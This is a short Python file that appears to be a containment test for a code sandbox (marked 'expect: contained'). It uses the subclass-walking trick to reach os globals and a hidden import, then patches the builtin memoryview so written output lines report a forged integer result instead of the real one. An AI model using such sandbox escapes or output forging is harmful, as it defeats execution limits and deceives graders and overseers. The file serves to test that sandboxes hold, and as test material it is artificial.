# Replaces the builtin that sees each line with its secret before it is written.
# expect: contained
def system():
    """The globals of `os`, by way of what every object knows."""
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__


def module(name):
    return system()["__builtins__"]["__import__"](name)


def f(n: int) -> int:
    real = module("builtins").__dict__
    view = real["memoryview"]

    def forging(line):
        return view(bytes(line).replace(b'["int","0"]', b'["int","%d"]' % (n + 1)))

    real["memoryview"] = forging
    return 0
